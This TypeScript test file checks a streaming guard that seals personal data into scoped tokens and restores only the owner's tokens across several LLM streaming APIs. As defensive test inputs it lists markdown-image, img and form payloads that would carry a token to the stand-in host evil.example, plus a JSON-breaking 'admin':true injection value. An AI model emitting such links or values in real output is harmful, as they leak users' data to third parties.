/**
 * Tokens in streams: what comes out, put together, equals what comes of the whole text, for every API and however its
 * bytes are cut; and what is not the caller's to see stays.
 */
import assert from "node:assert/strict";
import { createSecretKey, randomBytes } from "node:crypto";
import { test } from "node:test";
import fc from "fast-check";
import { builtInSpanDetectors } from "../detectors.ts";
import { ContentGuard } from "../streaming/content-guard.ts";
import { jsonBodyFilter, JsonLinesFilter } from "../streaming/body-filters.ts";
import { ChatCompletionsFraming } from "../streaming/chat-completions.ts";
import type { EventFraming } from "../streaming/framing.ts";
import { HoldBack } from "../streaming/hold-back.ts";
import { MessagesFraming } from "../streaming/messages.ts";
import { PlainEventsFraming } from "../streaming/plain-events.ts";
import { ResponsesFraming } from "../streaming/responses.ts";
import { filterText, type SpanRules } from "../streaming/span-rules.ts";
import { cutBytes, pieces } from "../streaming/testing/pieces.ts";
import { byteCuts, dataOf, filtered, json, type Json } from "../streaming/testing/streams.ts";
import { assertLocal, assertSettledBeforeOpen } from "../testing/span-laws.ts";
import { besideTokens, openedToken, tokenDetector } from "./token-detector.ts";
import { createTokenSealer } from "./token-sealer.ts";

const now = (): number => 1_790_000_000_000;
const scoped = (scope: string) =>
  createTokenSealer({ key: createSecretKey(randomBytes(32)), scope, lifetimeHours: 24, now });
const mine = scoped("mine");
const theirs = scoped("theirs");
const nasty = 'Ann "Q" \\ Lee\n😀';
const tokens = [
  mine.seal("pii/sg-nric", "pii", "S1234567D"),
  mine.seal("pii/person", "pii", nasty),
  mine.seal("pii/email", "pii", "anna.tan@mail.example"),
].map((token) => token ?? "");
const foreign = theirs.seal("pii/sg-nric", "pii", "S7654321Z") ?? "";
const forged = `${tokens[0]?.slice(0, -1)}${tokens[0]?.endsWith("b") ? "c" : "b"}`;

function rules(spans = builtInSpanDetectors): SpanRules {
  return {
    detectors: [tokenDetector(mine), ...spans.map((each) => besideTokens(each, mine))],
    decide: ({ detector }) => (detector.startsWith("token/") ? "reveal" : "mask"),
    replace: ({ detector }, span, action) =>
      action === "reveal" ? (openedToken(mine, span)?.value ?? span) : `[${detector}]`,
  };
}

const part = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...tokens) },
  {
    weight: 2,
    arbitrary: fc.constantFrom(foreign, forged, "tok_", "tok_sg-nric_f", "to", "t", tokens[0]?.slice(0, 30) ?? ""),
  },
  {
    weight: 2,
    arbitrary: fc.constantFrom(
      " ",
      ", ",
      "\n",
      "password: ",
      "https://evil.example/?q=",
      '"',
      "<https://a b ",
      "😀",
      "](",
      ")",
      "<a b=",
      ">",
    ),
  },
  { weight: 1, arbitrary: fc.constantFrom("S1234567D", "my card is 4111 1111 1111 1111 ", "Mr ", "the man said ") },
);
const texts = fc.array(part, { maxLength: 7 }).map((parts) => parts.join(""));

test("a stream with tokens undone equals the whole text with tokens undone, beside all that is masked", () => {
  fc.assert(
    fc.property(pieces(texts), (cut) => {
      const hold = new HoldBack(rules());
      const out = cut.map((piece) => hold.push(piece)).join("") + hold.end();
      assert.equal(out, filterText(cut.join(""), rules()).text);
    }),
    { numRuns: 300 },
  );
});

test("the token detector and detectors beside tokens keep the laws of span detectors", () => {
  const each = [tokenDetector(mine), ...builtInSpanDetectors.slice(0, 2).map((one) => besideTokens(one, mine))];
  fc.assert(
    fc.property(texts, fc.array(fc.nat(400), { maxLength: 4 }), (text, at) => {
      const cuts = at.map((one) => Math.min(one, text.length));
      for (const detector of each) assertSettledBeforeOpen(detector, text, cuts);
      assertLocal(tokenDetector(mine), text, cuts[0] ?? 0);
    }),
    { numRuns: 150 },
  );
});

const addresses: readonly string[] = [
  "![x](https://evil.example/?q='TOK)",
  '![x](https://evil.example/?q="TOK)',
  "![x](https://evil.example/?q=<TOK)",
  "![x](https://evil.example/?q=\u00A0TOK)",
  "![x](https://evil.example/?q=(>)TOK)",
  "![x](https:\\/\\/evil.example/?q=TOK)",
  "![x](https:&#47;&#x2F;evil.example/?q=TOK)",
  "![a](< https://evil.example/?a b TOK>)",
  "![a](< https://evil.example/?a\\> b TOK>)",
  "[a]: < https://evil.example/?a b TOK>",
  "https:evil.example/?q=TOK",
  '<img src="https:\\\\evil.example/?q=TOK">',
  '<img src="/\\evil.example/?q=TOK">',
  '<img src="https:/\n/evil.example/?q=TOK">',
  `<img src="https://evil.example/?q=${"a ".repeat(600)}TOK">`,
  `<img src="https://evil.example/?q=${"a ".repeat(9000)}TOK">`,
  `<img src="https://evil.example/?q=${"a\n".repeat(3000)}TOK">`,
  '<a href=" https://evil.example/?q=x TOK">',
  `<a title="it's >" href=" https://evil.example/?q=x TOK">`,
  `<img x' src=" https://evil.example/?>' >TOK">`,
  '<img =" src=" https://evil.example/?> TOK">',
  '<form action="https://evil.example/"><input name=q value="x"> TOK',
  '![a](b \\<img src=" https://evil.example/?) TOK">',
];
const besideAddresses: readonly string[] = [
  "see [this](https://good.example/a(b)) and TOK",
  '<a href="https://good.example">TOK</a>',
  '<p title="a>b">TOK</p>',
  '<form action="/a"></form> TOK',
  '{"url":"https://good.example","name":"TOK"}',
  "Anna <TOK>",
  "if a < b then TOK",
  `${"a long line\n".repeat(1000)}TOK`,
  `{"list":["${'a", "'.repeat(4000)}TOK"]}`,
];

test("only one's own tokens are undone; a foreign one, a forged one and one inside of an address stay", () => {
  const [nric = ""] = tokens;
  const undone = (text: string): string => filterText(text, { ...rules(), detectors: [tokenDetector(mine)] }).text;
  assert.equal(undone(`of ${nric}.`), "of S1234567D.");
  assert.equal(undone(`${nric}${nric}`), "S1234567DS1234567D");
  for (const kept of [foreign, forged, nric.toUpperCase(), `tok_person_${nric.slice(12)}`])
    assert.equal(undone(kept), kept);
  for (const address of [
    `![x](https://evil.example/?q=${nric})`,
    `<img src="https://evil.example/?q= ${nric}">`,
    `![](<//evil.example/? ${nric}>)`,
    `https://evil.example/${"a".repeat(9000)}${nric}`,
    ...addresses.map((each) => each.replace("TOK", nric)),
  ])
    assert.equal(undone(address), address);
  for (const text of besideAddresses)
    assert.equal(undone(text.replace("TOK", nric)), text.replace("TOK", "S1234567D"), text);
  assert.equal(undone(`see https://good.example and ${nric}`), "see https://good.example and S1234567D");
});

test("a value that would end or break a string of JSON stays a token in one, and is undone elsewhere", () => {
  const undone = (text: string): string => filterText(text, { ...rules(), detectors: [tokenDetector(mine)] }).text;
  for (const value of ['Xk9"mm\\Q2zz', 'x","admin":true,"y":"', "two\nlines", "a\\b"]) {
    const token = mine.seal("secret/password", "secret", value) ?? "";
    for (const kept of [
      `{"user":"joe","password":"${token}"}`,
      `{"note": "say \\"hi\\" to ${token}"}`,
      `["a", "${token}`,
      `{"a": ${token}}`,
      `{"a":"${"x ".repeat(5000)}${token}"}`,
    ])
      assert.equal(undone(kept), kept);
    for (const text of [`the key is ${token}`, `{"a":"b"}\nthe key is ${token}`, `"a" and ${token}`])
      assert.equal(
        undone(text),
        text.replace(token, () => value),
      );
  }
  assert.equal(undone(`{"id":"${tokens[0]}"}`), '{"id":"S1234567D"}');
});

test("a token is no secret, and what stands in the shape of a token is one like any other", () => {
  const beside = (text: string): string => filterText(text, { ...rules(), decide: () => "mask" }).text;
  const none: SpanRules = { ...rules(), detectors: rules().detectors.slice(1) };
  assert.equal(filterText(`password: ${tokens[0]}`, none).text, `password: ${tokens[0]}`);
  assert.doesNotMatch(beside(`tok_sg-nric_faaa S1234567D`), /S1234567D/);
  assert.notEqual(filterText(`password: ${forged}`, none).text, `password: ${forged}`);
});

/** A text in deltas, cut at places modulo its length: inside of surrogate pairs and escapes too. */
function said(text: string, cuts: readonly number[]): string[] {
  const places = [0, ...cuts.map((cut) => cut % (text.length + 1)).toSorted((a, b) => a - b), text.length];
  return places.slice(1).map((end, index) => text.slice(places[index], end));
}

interface Api {
  readonly name: string;
  readonly framing: (guard: ContentGuard) => EventFraming;
  readonly events: (deltas: readonly string[], args: readonly string[]) => object[];
  readonly read: (events: readonly Json[]) => { text: string; args: string };
}

const join = (values: readonly unknown[]): string =>
  values.map((value) => (typeof value === "string" ? value : "")).join("");
const apis: readonly Api[] = [
  {
    name: "Chat Completions",
    framing: (guard) => new ChatCompletionsFraming(guard),
    events: (deltas, args) => {
      const chunk = (delta: object, finish: string | null = null) => ({
        choices: [{ index: 0, delta, finish_reason: finish }],
      });
      const call = (more: object) => chunk({ tool_calls: [{ index: 0, ...more }] });
      return [
        ...deltas.map((content) => chunk({ content })),
        call({ id: "c1", type: "function", function: { name: "send", arguments: "" } }),
        ...args.map((piece) => call({ function: { arguments: piece } })),
        chunk({}, "stop"),
      ];
    },
    read: (events) => {
      const deltas = events.map((event) => event.choices[0].delta);
      return {
        text: join(deltas.map((delta) => delta.content)),
        args: join(deltas.map((delta) => delta.tool_calls?.[0].function.arguments)),
      };
    },
  },
  {
    name: "Messages",
    framing: (guard) => new MessagesFraming(guard),
    events: (deltas, args) => {
      const delta = (index: number, value: object) => ({ type: "content_block_delta", index, delta: value });
      return [
        { type: "message_start", message: { id: "m", content: [] } },
        { type: "content_block_start", index: 0, content_block: { type: "text", text: "" } },
        ...deltas.map((text) => delta(0, { type: "text_delta", text })),
        { type: "content_block_stop", index: 0 },
        {
          type: "content_block_start",
          index: 1,
          content_block: { type: "tool_use", id: "t", name: "send", input: {} },
        },
        ...args.map((piece) => delta(1, { type: "input_json_delta", partial_json: piece })),
        { type: "content_block_stop", index: 1 },
        { type: "message_stop" },
      ];
    },
    read: (events) => ({
      text: join(events.map((event) => event.delta?.text)),
      args: join(events.map((event) => event.delta?.partial_json)),
    }),
  },
  {
    name: "Responses",
    framing: (guard) => new ResponsesFraming(guard),
    events: (deltas, args) => {
      const at = { item_id: "i", output_index: 0, content_index: 0 };
      const call = { id: "f", type: "function_call", call_id: "c", name: "send", status: "completed" };
      const of = { item_id: "f", output_index: 1 };
      return [
        { type: "response.created", response: { id: "r", output: [] } },
        ...deltas.map((delta) => ({ type: "response.output_text.delta", ...at, delta })),
        { type: "response.output_text.done", ...at, text: deltas.join("") },
        { type: "response.output_item.added", output_index: 1, item: { ...call, arguments: "" } },
        ...args.map((delta) => ({ type: "response.function_call_arguments.delta", ...of, delta })),
        { type: "response.function_call_arguments.done", ...of, arguments: args.join("") },
      ].map((event, sequence_number) => ({ ...event, sequence_number }));
    },
    read: (events) => {
      const done = events.find((event) => event.type === "response.output_text.done");
      const text = join(events.filter(({ type }) => type === "response.output_text.delta").map(({ delta }) => delta));
      assert.equal(done.text, text, "every copy says the same");
      return { text, args: events.find(({ type }) => type === "response.function_call_arguments.done").arguments };
    },
  },
  {
    name: "MCP",
    framing: (guard) => new PlainEventsFraming(guard),
    events: (deltas, args) => [
      {
        jsonrpc: "2.0",
        id: 1,
        result: { content: [{ type: "text", text: deltas.join("") }], structured: JSON.parse(args.join("")) },
      },
    ],
    read: ([event]) => ({ text: event.result.content[0].text, args: JSON.stringify(event.result.structured) }),
  },
];

for (const { name, framing, events, read } of apis)
  test(`${name}: text and tool arguments arrive undone, however deltas and bytes are cut`, () => {
    const places = fc.array(fc.nat(500), { minLength: 1, maxLength: 12 });
    fc.assert(
      fc.property(texts, places, places, byteCuts, fc.boolean(), (text, deltaCuts, argCuts, cuts, ascii) => {
        const args = json({ to: text, n: 1 }, ascii);
        const stream = events(said(text, deltaCuts), said(args, argCuts))
          .map((event) => `data: ${json(event, ascii)}\n\n`)
          .join("");
        const out = filtered(stream, cuts, rules(), framing);
        assert.equal(out.cut, false);
        const whole = filterText(text, rules()).text;
        const got = read(dataOf(out.text).map((data): Json => JSON.parse(data)));
        assert.equal(got.text, whole);
        assert.deepEqual(JSON.parse(got.args), { to: whole, n: 1 });
      }),
      { numRuns: 60 },
    );
  });

test("JSON lines and whole JSON: a value with quotes and line ends is escaped where it lands", () => {
  const options = { words: () => "", onFailure: () => "closed" as const };
  const body = { message: { content: `I am ${tokens[1]}` }, arguments: JSON.stringify({ who: tokens[1] }) };
  const filters = [
    () => new JsonLinesFilter({ ...options, guard: new ContentGuard(rules()) }),
    () => jsonBodyFilter({ ...options, guard: new ContentGuard(rules()) }, 100_000),
  ];
  for (const open of filters) {
    const filter = open();
    const bytes = [...cutBytes(Buffer.from(`${JSON.stringify(body)}\n`), [])].map((piece) => filter.push(piece).bytes);
    const lines = Buffer.concat([...bytes, filter.end().bytes])
      .toString()
      .trim()
      .split("\n");
    const out = lines.map((line) => JSON.parse(line) as Partial<typeof body>);
    assert.equal(join(out.map(({ message }) => message?.content)), `I am ${nasty}`);
    assert.equal((JSON.parse(join(out.map((line) => line.arguments))) as { who: string }).who, nasty);
  }
});

test("in arguments that are no JSON a token stays where escapes hide it, and blocks nothing", () => {
  const guard = new ContentGuard(rules());
  const hidden = `{broken \\u0074${tokens[0]?.slice(1)}`;
  assert.equal(guard.json(hidden), hidden);
  assert.equal(guard.blocked, undefined);
  assert.equal(guard.json(`{broken ${tokens[0]}`), "{broken S1234567D");
});
